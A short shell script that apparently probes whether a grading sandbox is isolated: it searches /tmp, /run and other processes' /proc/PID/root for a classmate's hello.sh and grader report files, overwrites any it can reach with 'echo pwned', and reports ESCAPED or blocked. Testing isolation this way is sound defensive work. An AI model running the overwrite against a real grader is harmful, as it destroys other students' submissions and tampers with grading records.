# In grader batch: rewrites a classmate's submission and any report already
# written, wherever they can be reached: the class folder, the grader's
# /tmp, through any process's /proc/PID/root.
n=0
for f in $(find /tmp /run /proc/[0-9]*/root/tmp \( -name hello.sh -o -path '*/reports/*.json' \) 2>/dev/null); do
  if echo 'echo pwned' 2>/dev/null > "$f"; then n=$((n+1)); echo "ESCAPED: rewrote $f"; fi
done
[ $n -eq 0 ] && echo "blocked: no classmate's file in reach"
